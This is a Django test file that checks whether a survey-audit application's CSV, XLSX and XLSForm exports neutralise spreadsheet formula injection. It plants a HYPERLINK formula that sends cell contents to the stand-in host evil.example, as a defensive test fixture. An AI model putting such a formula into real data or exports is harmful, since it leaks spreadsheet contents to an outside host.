"""Formula injection: text that a spreadsheet would run as a formula, planted where users can
write (a free-text answer, a code name, a question text), is never a live formula in any CSV
or XLSX file a user can download."""

import csv
import io

from django.core.management import call_command
from openpyxl import load_workbook

from brukarrevision.accounts.models import User
from brukarrevision.analysis.models import Code
from brukarrevision.collection.models import Answer
from brukarrevision.instruments.models import Instrument

PLANTED = '=HYPERLINK("https://evil.example/?"&A1,"Klicka")'
DANGEROUS = ("=", "+", "-", "@")


def plant():
    instrument = Instrument.objects.get(audit__slug="demo", kind="questionnaire", next_version=None)
    Answer.objects.filter(response__audit__slug="demo", text__gt="").update(text=PLANTED)
    code = Code.objects.filter(audit__slug="demo").first()
    Code.objects.filter(pk=code.pk).update(name=PLANTED)
    item = instrument.sections.first().items.first()
    type(item).objects.filter(pk=item.pk).update(text={**item.text, "sv": PLANTED})
    return instrument


def assert_csv_safe(data: bytes, delimiter=","):
    text = data.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text), delimiter=delimiter):
        for cell in row:
            assert not cell.startswith(DANGEROUS) or cell[1:2].isdigit() or cell == "-", cell


def assert_xlsx_safe(data: bytes):
    book = load_workbook(io.BytesIO(data))
    found = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                found += isinstance(cell.value, str) and "HYPERLINK" in cell.value
    return found


def test_no_download_holds_a_live_formula(demo_data, client, tmp_path):
    instrument = plant()
    client.force_login(User.objects.get(email="revisor@demo.example"))
    base = "/audits/demo"
    for path in (
        f"{base}/analysis/responses.csv?instrument={instrument.pk}",
        f"{base}/analysis/codebook.csv",
        f"{base}/results/results.csv",
    ):
        response = client.get(path)
        assert response.status_code == 200, path
        assert_csv_safe(response.content)
    assert_csv_safe(client.get(f"{base}/results/results.csv?dialect=excel").content, ";")
    planted = 0
    for path in (
        f"{base}/analysis/responses.xlsx?instrument={instrument.pk}",
        f"{base}/results/results.xlsx",
        f"{base}/instruments/{instrument.pk}/xlsform/",
    ):
        response = client.get(path)
        assert response.status_code == 200, path
        planted += assert_xlsx_safe(response.content)
    assert planted, "the planted text reached the files, as text"
    out = tmp_path / "results.xlsx"
    call_command("export_results", "--audit", "demo", "--format", "xlsx", "--out", str(out))
    assert_xlsx_safe(out.read_bytes())
